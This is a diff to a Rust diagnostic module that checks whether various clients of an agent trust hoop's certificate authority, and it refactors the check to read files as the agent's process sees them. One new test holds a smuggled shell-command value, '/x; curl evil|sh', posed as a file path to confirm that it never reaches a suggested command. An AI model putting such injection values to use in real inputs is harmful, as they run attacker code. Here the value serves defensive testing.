@@ -1,14 +1,17 @@
 //! Which client of which agent would take hoop for the server, and which would not.
+//!
+//! What a client trusts is a file as its own process sees it: below another root perhaps, and only if
+//! its account may read it.
 
 use std::collections::BTreeSet;
-use std::fs;
 use std::path::{Path, PathBuf};
 
 use nix::unistd::{Uid, User};
 
-use super::finding::{Check, Finding};
+use super::finding::{Check, Finding, Remedy, advise, as_root, quoted, run};
 use super::host::Host;
 use super::processes::Process;
+use super::views::{Read, Views, read};
 use crate::cli::trust::Ours;
 use crate::cli::{trust_kube, trust_ssh};
 use crate::config::{Agent, Config, ProtocolKind, Resource};
@@ -19,7 +22,6 @@ const TRUST: Check = Check::new(
     "trust",
     "hoop shows a certificate of its own: a client that verifies and does not know hoop's authority does not connect",
 );
-const MAX_FILE: u64 = 8 << 20;
 const SYSTEM_BUNDLES: [&str; 3] = [
     "/etc/ssl/certs/ca-certificates.crt",
     "/etc/pki/tls/certs/ca-bundle.crt",
@@ -28,14 +30,23 @@ const SYSTEM_BUNDLES: [&str; 3] = [
 const SYSTEM_KNOWN: &str = "/etc/ssh/ssh_known_hosts";
 const SYSTEM_MEND: &str =
     "hoop trust show >/usr/local/share/ca-certificates/hoop.crt && update-ca-certificates";
+const NO_PROCESS: &str = "no process of the agent runs";
 
 /// Of one client: what it would do.
 #[derive(Debug, PartialEq, Eq)]
 enum Trusts {
     Yes(String),
-    /// Why not, and the command.
-    No(String, String),
-    Unknown(String),
+    No(String, Remedy),
+    Unknown(String, Remedy),
+}
+
+/// One agent's processes, and what they see.
+struct Client<'h> {
+    config: &'h Config,
+    resource: &'h Resource,
+    processes: Vec<&'h Process>,
+    views: Views<'h>,
+    homes: Vec<PathBuf>,
 }
 
 pub fn check(host: &Host) -> Vec<Finding> {
@@ -57,8 +68,8 @@ pub fn check(host: &Host) -> Vec<Finding> {
 fn judge(trusts: Trusts) -> Finding {
     match trusts {
         Trusts::Yes(how) => TRUST.ok(how),
-        Trusts::No(why, mend) => TRUST.warn(why, mend),
-        Trusts::Unknown(why) => TRUST.unknown(why, "sudo hoop doctor, while the agent runs"),
+        Trusts::No(why, remedy) => TRUST.warn(why, remedy),
+        Trusts::Unknown(why, remedy) => TRUST.unknown(why, remedy),
     }
 }
 
@@ -71,29 +82,27 @@ fn clients(
     let processes = host.processes_of(agent);
     if processes.iter().any(|process| !process.is_readable()) {
         let why = "its processes' environment may not be read".to_owned();
-        return vec![("every client", Trusts::Unknown(why))];
+        return vec![("every client", Trusts::Unknown(why, as_root()))];
     }
-    let homes = homes(&processes);
+    let client = Client {
+        config,
+        resource,
+        views: Views::of(&processes),
+        homes: homes(&processes),
+        processes,
+    };
     match resource.protocol {
-        ProtocolKind::Ssh => vec![("ssh", ssh(config, resource, &homes))],
+        ProtocolKind::Ssh => vec![("ssh", client.ssh())],
         ProtocolKind::Postgres | ProtocolKind::Kubernetes => {
             let path = config.worker.state.join(CERTIFICATE_FILE);
             let ours = match read(&path).as_deref().map(Ours::of) {
                 Some(Ok(ours)) => ours,
                 _ => {
                     let why = format!("hoop's authority cannot be read from {}", path.display());
-                    return vec![("every client", Trusts::Unknown(why))];
+                    return vec![("every client", Trusts::Unknown(why, as_root()))];
                 }
             };
-            if resource.protocol == ProtocolKind::Kubernetes {
-                let known = kubeconfig(&ours, resource, &processes, &homes);
-                return vec![("kubectl, helm, client libraries", known)];
-            }
-            vec![
-                ("libpq", libpq(&ours, &processes, &homes)),
-                ("the system's list (Go, Rust, curl)", system(&ours)),
-                ("Node.js", node(&ours, &processes)),
-            ]
+            client.of_tls(&ours)
         }
     }
 }
@@ -104,177 +113,262 @@ fn homes(processes: &[&Process]) -> Vec<PathBuf> {
     uids.into_iter().filter_map(home).collect()
 }
 
-/// psql, psycopg and all that is libpq: `PGSSLROOTCERT`, or a file in the home.
-fn libpq(ours: &Ours, processes: &[&Process], homes: &[PathBuf]) -> Trusts {
-    let named: BTreeSet<String> = processes
-        .iter()
-        .filter_map(|process| process.variable("PGSSLROOTCERT"))
-        .collect();
-    let mut files: Vec<PathBuf> = named.into_iter().map(PathBuf::from).collect();
-    if files.is_empty() {
-        files = homes
+impl Client<'_> {
+    fn of_tls(&self, ours: &Ours) -> Vec<(&'static str, Trusts)> {
+        let mut found = match self.resource.protocol {
+            ProtocolKind::Kubernetes => vec![
+                ("kubectl, helm, client libraries", self.kubeconfig(ours)),
+                (
+                    "Python's requests",
+                    self.listed(ours, &["REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"]),
+                ),
+            ],
+            _ => vec![
+                ("libpq", self.libpq(ours)),
+                (
+                    "the system's list (Go, Rust, Python's ssl)",
+                    self.listed(ours, &["SSL_CERT_FILE"]),
+                ),
+                ("Node.js", self.node(ours)),
+            ],
+        };
+        // Its list is a file in a form of its own, wherever its own options say.
+        if self.processes.iter().any(|process| process.comm == "java") {
+            let why = "Java's own list of authorities is not looked at".to_owned();
+            let how = advise("`keytool -list -keystore cacerts` of its Java: see TRUST.md");
+            found.push(("Java", Trusts::Unknown(why, how)));
+        }
+        found
+    }
+
+    /// psql, psycopg and all that is libpq: `PGSSLROOTCERT`, or a file in the home.
+    fn libpq(&self, ours: &Ours) -> Trusts {
+        let named = self.named("PGSSLROOTCERT");
+        if named.contains("system") {
+            return self.listed(ours, &["SSL_CERT_FILE"]);
+        }
+        if let Some(judged) = self.all_of(ours, "PGSSLROOTCERT", &named) {
+            return judged;
+        }
+        if self.homes.is_empty() {
+            let why = format!("{NO_PROCESS}, so its home is not known");
+            return Trusts::Unknown(why, start());
+        }
+        for home in &self.homes {
+            let file = home.join(".postgresql/root.crt");
+            let shown = file.display();
+            match self.views.read(&file, &|text| ours.stand_in(text)) {
+                Read::Good => {}
+                Read::Bad => {
+                    let why = format!("{shown} does not have hoop's authority");
+                    return Trusts::No(why, in_home(home));
+                }
+                Read::Closed => {
+                    let why = format!("the agent's account may not read {shown}");
+                    return Trusts::No(why, in_home(home));
+                }
+                Read::Absent => {
+                    return Trusts::No(
+                        format!(
+                            "there is no {shown} for it: it connects as long as it verifies nothing (sslmode below verify-ca)"
+                        ),
+                        in_home(home),
+                    );
+                }
+                Read::Unknown => return unseen(&file),
+            }
+        }
+        let shown: Vec<String> = self.homes.iter().map(|h| h.display().to_string()).collect();
+        Trusts::Yes(format!(
+            "{}: .postgresql/root.crt has hoop's authority",
+            shown.join(", ")
+        ))
+    }
+
+    /// kubectl and its kin: the first file of `KUBECONFIG`, or the one in the home.
+    fn kubeconfig(&self, ours: &Ours) -> Trusts {
+        let named = self
+            .processes
             .iter()
-            .map(|home| home.join(".postgresql/root.crt"))
-            .collect();
-    }
-    if files.is_empty() {
-        return Trusts::Unknown("no process of the agent runs, so its home is not known".into());
-    }
-    for file in &files {
-        if file == Path::new("system") {
-            return system(ours);
-        }
-        let shown = file.display();
-        match read(file) {
-            Some(text) if ours.stand_in(&text) => {}
-            Some(_) => {
-                return Trusts::No(
-                    format!("{shown} does not have hoop's authority"),
-                    mend_libpq(file),
-                );
+            .filter_map(|p| p.variable("KUBECONFIG"));
+        let named = named.filter_map(|list| list.split(':').next().map(PathBuf::from));
+        let named: BTreeSet<PathBuf> = named.collect();
+        let own = self
+            .homes
+            .iter()
+            .map(|home| (home.join(".kube/config"), Some(home)));
+        let files = named.into_iter().map(|file| (file, None)).chain(own);
+        let mut trusted = None;
+        for (file, home) in files {
+            let Some(text) = self.views.text(&file) else {
+                continue;
+            };
+            let folder = file.parent().unwrap_or(Path::new("/"));
+            match trust_kube::trusts(&text, folder, self.resource, ours) {
+                Some(true) => trusted = Some(file),
+                Some(false) => {
+                    let why = format!("{} does not have hoop's authority for it", file.display());
+                    let remedy = match home {
+                        Some(home) => run(format!("hoop trust kubeconfig --home {}", word(home))),
+                        None => advise(
+                            "`hoop trust kubeconfig` with --kubeconfig and the file that KUBECONFIG names",
+                        ),
+                    };
+                    return Trusts::No(why, remedy);
+                }
+                None => {}
             }
-            None if file.exists() => return Trusts::Unknown(format!("{shown} cannot be read")),
-            None => {
-                return Trusts::No(
-                    format!(
-                        "there is no {shown}: it connects as long as it verifies nothing (sslmode below verify-ca)"
-                    ),
-                    mend_libpq(file),
-                );
-            }
         }
-    }
-    let shown: Vec<String> = files.iter().map(|f| f.display().to_string()).collect();
-    Trusts::Yes(format!("{} has hoop's authority", shown.join(", ")))
-}
-
-/// kubectl and its kin: the first file of `KUBECONFIG`, or the one in the home.
-fn kubeconfig(
-    ours: &Ours,
-    resource: &Resource,
-    processes: &[&Process],
-    homes: &[PathBuf],
-) -> Trusts {
-    let named = processes.iter().filter_map(|p| p.variable("KUBECONFIG"));
-    let named = named.filter_map(|list| list.split(':').next().map(PathBuf::from));
-    let own = homes.iter().map(|home| home.join(".kube/config"));
-    let files: BTreeSet<PathBuf> = named.chain(own).collect();
-    let mut trusted = None;
-    for file in &files {
-        let Some(text) = read(file) else { continue };
-        let folder = file.parent().unwrap_or(Path::new("/"));
-        match trust_kube::trusts(&text, folder, resource, ours) {
-            Some(true) => trusted = Some(file),
-            Some(false) => {
-                return Trusts::No(
-                    format!("{} does not have hoop's authority for it", file.display()),
-                    "hoop trust kubeconfig --home DIR, or --ca-file FILE".into(),
-                );
-            }
-            None => {}
-        }
-    }
-    match trusted {
-        Some(file) => Trusts::Yes(format!("{} has hoop's authority", file.display())),
-        None => Trusts::Unknown("no kubeconfig that names this cluster was found".into()),
-    }
-}
-
-fn mend_libpq(file: &Path) -> String {
-    let home = file
-        .parent()
-        .filter(|folder| folder.ends_with(".postgresql"))
-        .and_then(Path::parent);
-    match home {
-        Some(home) => format!("hoop trust postgres --home {}", home.display()),
-        None => format!("hoop trust show >>{}", file.display()),
-    }
-}
-
-fn system(ours: &Ours) -> Trusts {
-    let Some((path, text)) = SYSTEM_BUNDLES
-        .iter()
-        .find_map(|p| Some((p, read(Path::new(p))?)))
-    else {
-        return Trusts::No(
-            "the system has no list of authorities".into(),
-            SYSTEM_MEND.into(),
-        );
-    };
-    match ours.stand_in(&text) {
-        true => Trusts::Yes(format!("{path} has hoop's authority")),
-        false => Trusts::No(
-            format!("{path} does not have hoop's authority"),
-            SYSTEM_MEND.into(),
-        ),
-    }
-}
-
-fn node(ours: &Ours, processes: &[&Process]) -> Trusts {
-    const VARIABLE: &str = "NODE_EXTRA_CA_CERTS";
-    if processes.is_empty() {
-        return Trusts::Unknown(
-            "no process of the agent runs, so its environment is not known".into(),
-        );
-    }
-    let files: BTreeSet<String> = processes
-        .iter()
-        .filter_map(|p| p.variable(VARIABLE))
-        .collect();
-    let mend = || {
-        "set Environment=NODE_EXTRA_CA_CERTS= in the agent's unit to the path that `hoop trust show --json` says".to_owned()
-    };
-    match files
-        .iter()
-        .find(|file| read(Path::new(file)).is_some_and(|text| ours.stand_in(&text)))
-    {
-        Some(file) => Trusts::Yes(format!("{VARIABLE} is {file}, which has hoop's authority")),
-        None if files.is_empty() => Trusts::No(format!("{VARIABLE} is not set"), mend()),
-        None => Trusts::No(
-            "the list it names does not have hoop's authority".into(),
-            mend(),
-        ),
-    }
-}
-
-fn ssh(config: &Config, resource: &Resource, homes: &[PathBuf]) -> Trusts {
-    let key = config
-        .worker
-        .state
-        .join(HOST_AUTHORITY)
-        .with_extension("pub");
-    let Some(key) = read(&key) else {
-        return Trusts::Unknown(format!(
-            "hoop's SSH authority cannot be read from {}",
-            key.display()
-        ));
-    };
-    let patterns = trust_ssh::patterns_of(std::iter::once(resource));
-    if knows(
-        &read(Path::new(SYSTEM_KNOWN)).unwrap_or_default(),
-        &key,
-        &patterns,
-    ) {
-        return Trusts::Yes(format!("{SYSTEM_KNOWN} has hoop's authority"));
-    }
-    let without = homes.iter().find(|home| {
-        let own = read(&home.join(".ssh/known_hosts")).unwrap_or_default();
-        !knows(&own, &key, &patterns)
-    });
-    match without {
-        _ if homes.is_empty() => Trusts::No(
-            format!("{SYSTEM_KNOWN} does not have hoop's authority for it"),
-            "hoop trust ssh".into(),
-        ),
-        Some(home) => Trusts::No(
-            format!(
-                "neither {SYSTEM_KNOWN} nor {} has hoop's authority for it",
-                home.join(".ssh/known_hosts").display()
+        match trusted {
+            Some(file) => Trusts::Yes(format!("{} has hoop's authority", file.display())),
+            None => Trusts::Unknown(
+                "no kubeconfig that names this cluster was found".into(),
+                advise("look again while the agent runs; `hoop trust kubeconfig` mends one"),
             ),
-            "hoop trust ssh (or --home DIR for one account)".into(),
-        ),
-        None => Trusts::Yes("the account's known hosts have hoop's authority".into()),
+        }
     }
+
+    /// Programs that go by the system's list, or by the one that a variable names in its place.
+    fn listed(&self, ours: &Ours, variables: &[&str]) -> Trusts {
+        for variable in variables {
+            let named = self.named(variable);
+            if let Some(judged) = self.all_of(ours, variable, &named) {
+                return judged;
+            }
+        }
+        for path in SYSTEM_BUNDLES {
+            match self
+                .views
+                .read(Path::new(path), &|text| ours.stand_in(text))
+            {
+                Read::Absent => {}
+                Read::Good => return Trusts::Yes(format!("{path} has hoop's authority")),
+                Read::Bad => {
+                    let why = format!("{path} does not have hoop's authority");
+                    return Trusts::No(why, in_system());
+                }
+                Read::Closed => {
+                    let why = format!("the agent's account may not read {path}");
+                    return Trusts::No(why, run(format!("chmod a+r {path}")));
+                }
+                Read::Unknown => return unseen(Path::new(path)),
+            }
+        }
+        Trusts::No("the system has no list of authorities".into(), in_system())
+    }
+
+    fn node(&self, ours: &Ours) -> Trusts {
+        const VARIABLE: &str = "NODE_EXTRA_CA_CERTS";
+        if self.processes.is_empty() {
+            let why = format!("{NO_PROCESS}, so its environment is not known");
+            return Trusts::Unknown(why, start());
+        }
+        let named = self.named(VARIABLE);
+        self.all_of(ours, VARIABLE, &named).unwrap_or_else(|| {
+            Trusts::No(
+                format!("{VARIABLE} is not set"),
+                advise("set Environment=NODE_EXTRA_CA_CERTS= in the agent's unit to the path that `hoop trust show --json` says"),
+            )
+        })
+    }
+
+    fn named(&self, variable: &str) -> BTreeSet<String> {
+        let named = self.processes.iter().filter_map(|p| p.variable(variable));
+        named.filter(|value| !value.is_empty()).collect()
+    }
+
+    /// Whether every list that a variable names has the authority; `None` where none is named. What an
+    /// agent wrote there is shown, and is no part of a command.
+    fn all_of(&self, ours: &Ours, variable: &str, files: &BTreeSet<String>) -> Option<Trusts> {
+        let remedy = || {
+            advise(format!(
+                "put what `hoop trust show` prints into the file that {variable} names, and let the agent's account read it"
+            ))
+        };
+        for file in files {
+            let what = match self
+                .views
+                .read(Path::new(file), &|text| ours.stand_in(text))
+            {
+                Read::Good => continue,
+                Read::Bad => "does not have hoop's authority",
+                Read::Closed => "may not be read by the agent's account",
+                Read::Absent => "is not there for it",
+                Read::Unknown => return Some(unseen(Path::new(file))),
+            };
+            return Some(Trusts::No(
+                format!("{file}, by {variable}, {what}"),
+                remedy(),
+            ));
+        }
+        let shown: Vec<&str> = files.iter().map(String::as_str).collect();
+        let shown = shown.join(", ");
+        (!files.is_empty())
+            .then(|| Trusts::Yes(format!("{shown}, by {variable}, has hoop's authority")))
+    }
+
+    fn ssh(&self) -> Trusts {
+        let path = self
+            .config
+            .worker
+            .state
+            .join(HOST_AUTHORITY)
+            .with_extension("pub");
+        let Some(key) = read(&path) else {
+            let why = format!(
+                "hoop's SSH authority cannot be read from {}",
+                path.display()
+            );
+            return Trusts::Unknown(why, as_root());
+        };
+        let patterns = trust_ssh::patterns_of(std::iter::once(self.resource));
+        let known = |file: &Path| self.views.read(file, &|text| knows(text, &key, &patterns));
+        if known(Path::new(SYSTEM_KNOWN)) == Read::Good {
+            return Trusts::Yes(format!("{SYSTEM_KNOWN} has hoop's authority"));
+        }
+        let own = |home: &&PathBuf| known(&home.join(".ssh/known_hosts")) != Read::Good;
+        match self.homes.iter().find(own) {
+            _ if self.homes.is_empty() => Trusts::No(
+                format!("{SYSTEM_KNOWN} does not have hoop's authority for it"),
+                run("hoop trust ssh"),
+            ),
+            Some(home) => Trusts::No(
+                format!(
+                    "neither {SYSTEM_KNOWN} nor {} has hoop's authority for it where the agent may read it",
+                    home.join(".ssh/known_hosts").display()
+                ),
+                run("hoop trust ssh").and("or, for this account alone, with --home and its home"),
+            ),
+            None => Trusts::Yes("the account's known hosts have hoop's authority".into()),
+        }
+    }
+}
+
+fn start() -> Remedy {
+    advise("start the agent, and look again while it runs")
+}
+
+fn in_system() -> Remedy {
+    run(SYSTEM_MEND).and("where the agent has a root of its own, do that in it")
+}
+
+/// The file is root's, and must be let be read.
+fn in_home(home: &Path) -> Remedy {
+    let (dir, below) = (word(home), word(&home.join(".postgresql")));
+    run(format!("hoop trust postgres --home {dir} && chmod -R a+rX {below}"))
+        .and("where the agent's unit hides homes (ProtectHome=), put it elsewhere and name it in PGSSLROOTCERT")
+}
+
+fn word(path: &Path) -> String {
+    quoted(&path.display().to_string())
+}
+
+fn unseen(path: &Path) -> Trusts {
+    let why = format!(
+        "{} cannot be looked at as the agent sees it",
+        path.display()
+    );
+    Trusts::Unknown(why, as_root())
 }
 
 /// Whether the known hosts say of every one of these that this authority vouches for it.
@@ -298,25 +392,12 @@ fn knows(known_hosts: &str, authority: &str, patterns: &[String]) -> bool {
             .all(|pattern| listed.contains(pattern.as_str()))
 }
 
-/// At most so much of a regular file, without waiting for a pipe in its place.
-fn read(path: &Path) -> Option<String> {
-    use std::io::Read;
-    use std::os::unix::fs::OpenOptionsExt;
-    let mut options = fs::OpenOptions::new();
-    let opened = options
-        .read(true)
-        .custom_flags(libc::O_NONBLOCK | libc::O_CLOEXEC);
-    let file = opened.open(path).ok()?;
-    file.metadata().ok().filter(fs::Metadata::is_file)?;
-    let mut bytes = Vec::new();
-    file.take(MAX_FILE).read_to_end(&mut bytes).ok()?;
-    Some(String::from_utf8_lossy(&bytes).into_owned())
-}
-
 #[cfg(test)]
 mod tests {
     use super::super::finding::State;
     use super::*;
+    use crate::forward::fixture::{config, resource};
+    use crate::terminate::authority::{Authority, Destinations};
 
     #[test]
     fn known_hosts_must_name_the_authority_for_every_pattern() {
@@ -336,10 +417,29 @@ mod tests {
 
     #[test]
     fn the_remedy_names_the_home() {
-        let file = Path::new("/home/bot/.postgresql/root.crt");
-        assert_eq!(mend_libpq(file), "hoop trust postgres --home /home/bot");
-        assert!(mend_libpq(Path::new("/etc/x.pem")).ends_with(">>/etc/x.pem"));
-        let no = Trusts::No("x".into(), "y".into());
-        assert_eq!(judge(no).state, State::Warn);
+        let no = judge(Trusts::No("x".into(), in_home(Path::new("/home/bot"))));
+        assert_eq!(no.state, State::Warn);
+        let mend = "hoop trust postgres --home /home/bot && chmod -R a+rX /home/bot/.postgresql";
+        assert_eq!(no.mend.as_deref(), Some(mend));
+    }
+
+    #[test]
+    fn what_an_agent_names_is_in_no_command() {
+        let (config, orders) = (config(Vec::new()), resource("orders", &["db.internal"]));
+        let client = Client {
+            config: &config,
+            resource: &orders,
+            processes: Vec::new(),
+            views: Views::of(&[]),
+            homes: Vec::new(),
+        };
+        let state = tempfile::tempdir().unwrap();
+        let authority = Authority::open(state.path(), &Destinations::of(&config)).unwrap();
+        let ours = Ours::of(&authority.ca_pem()).unwrap();
+        let named = BTreeSet::from(["/x; curl evil|sh\n        mend: sh".to_owned()]);
+        let judged = client.all_of(&ours, "PGSSLROOTCERT", &named).unwrap();
+        let found = judge(judged);
+        assert!(found.mend.is_none() && !found.advice.unwrap().contains("evil"));
+        assert!(!found.seen.contains('\n'), "{}", found.seen);
     }
 }
